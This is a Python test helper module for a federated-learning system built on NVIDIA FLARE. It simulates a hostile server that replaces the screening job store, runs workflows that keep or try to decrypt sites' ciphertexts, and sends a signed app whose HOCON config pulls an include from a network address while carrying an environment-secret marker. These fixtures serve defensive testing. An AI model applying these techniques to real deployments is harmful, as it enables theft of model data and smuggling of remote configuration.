"""Attacks on a federation that runs: hostile jobs of a coordinator, and a server that sends what it did not screen."""

import contextlib
import io
import json
import os
import shutil
from pathlib import Path

import psutil
from nvflare.fuel.utils.zip_utils import zip_directory_to_bytes
from nvflare.lighter.utils import load_private_key_file, sign_folders

from canary import hocon, telling
from cheating_server import Cheating, Reading
from fedseg.deployment.kits.installed_kit import LOCAL, RESOURCES_FILE
from fedseg.jobs.allowed_components import JOB_STORE
from fedseg.screening.job_store import ScreeningJobStore
from stolen_ciphertexts import encrypted_job, without_encryption

SECRET, SMUGGLED, SOCKETS = "FEDSEG_TEST_SECRET", "FEDSEG_TEST_SMUGGLED", "FEDSEG_TEST_SOCKETS"
WIRE = "FEDSEG_TEST_WIRE"
HERE = Path(__file__).parent


class HostileStore(ScreeningJobStore):
    """The store of a server that sends the sites something else than what was submitted as the job ``smuggled``."""

    def get_app(self, job, app_name, fl_ctx):
        if job.meta["name"] == "smuggled":
            return Path(os.environ[SMUGGLED]).read_bytes()
        return super().get_app(job, app_name, fl_ctx)


def turn_hostile(kit):
    """Give the server's kit the hostile store in the place of the screening one, and workflows that cheat."""
    path = kit / LOCAL / RESOURCES_FILE
    text = path.read_text("utf-8")
    assert JOB_STORE in text
    content = json.loads(text.replace(JOB_STORE, "attack_parts.HostileStore"))
    content["class_allow_list"] += [f"cheating_server.{kind.__name__}" for kind in (Cheating, Reading)]
    path.write_text(json.dumps(content), "utf-8")


def watch(patch, folder):
    """Let every process that is started from now on note which addresses it asks for; returns the file of the notes."""
    paths = [HERE, HERE / "watched", HERE.parent, os.environ.get("PYTHONPATH", "")]
    patch.setenv("PYTHONPATH", os.pathsep.join(map(str, paths)))
    patch.setenv(SECRET, "MARKER-OF-THE-ENVIRONMENT")
    patch.setenv(SOCKETS, str(folder / "sockets.jsonl"))
    patch.setenv(SMUGGLED, str(folder / "smuggled.zip"))
    patch.setenv(WIRE, str(folder / "wire.jsonl"))
    return folder / "sockets.jsonl"


def ports(processes):
    """Ports on which these processes listen, and the addresses with which they are connected."""
    listening, remote = set(), set()
    for process in processes:
        with contextlib.suppress(psutil.Error):
            for connection in process.net_connections("inet"):
                if connection.status == psutil.CONN_LISTEN:
                    listening.add(connection.laddr.port)
                elif connection.raddr:
                    remote.add(tuple(connection.raddr))
    return listening, remote


def named(job, name):
    """The job under another name, as its coordinator would submit it."""
    (job.folder / "meta.json").write_text(json.dumps({"name": name, "deploy_map": {"app": ["@ALL"]}}), "utf-8")
    job.name = name
    return job


def steal(coordinator, folder, seconds):
    """Two jobs of the cheating server: one keeps a site's ciphertext and sends it on, one would have it read in plain.

    Returns:
        For each its id and how it ended.
    """
    file, ended = str(folder / "stolen.model"), {}
    for name, job in (
        ("keeping", lambda: encrypted_job(Cheating, num_rounds=2, how="lone", file=file)),
        ("reading", lambda: without_encryption(encrypted_job(Reading, num_rounds=1, file=file))),
    ):
        written = job()
        written.folder = written.write(folder / name)
        job_id = coordinator.submit(named(written, name))
        ended[name] = job_id, coordinator.wait(job_id, timeout=seconds)
    return ended


def submit_raw(coordinator, folder):
    """What FLARE's own session says when this folder is submitted; nothing of fedseg looks at it before the server."""
    with contextlib.redirect_stdout(io.StringIO()):
        try:
            return f"accepted as {coordinator._session.submit_job(str(folder))}"
        except Exception as error:
            return f"{type(error).__name__}: {error}"


def smuggle(job, kit, address, file):
    """Write what the hostile server sends: a signed app whose sites' part is HOCON that asks an address.

    Returns:
        The folder of the harmless job to submit. All three sites must take it, so that it ends at once.
    """
    harmless = Path(shutil.copytree(job, job.with_name("smuggled")))
    meta = {**json.loads((harmless / "meta.json").read_text("utf-8")), "name": "smuggled", "min_clients": 3}
    (harmless / "meta.json").write_text(json.dumps(meta), "utf-8")
    app = Path(shutil.copytree(job / "app", job.with_name("app")))
    client = app / "config" / "config_fed_client.json"
    content = telling(json.loads(client.read_text("utf-8")), "{$FEDSEG_TEST_SECRET}")
    client.with_suffix(".conf").write_text(hocon(content, f'include url("{address}smuggled")'), "utf-8")
    client.unlink()
    startup = kit / "startup"
    sign_folders(str(app), load_private_key_file(str(startup / "client.key")), str(startup / "client.crt"))
    file.write_bytes(zip_directory_to_bytes(str(app), ""))
    return harmless
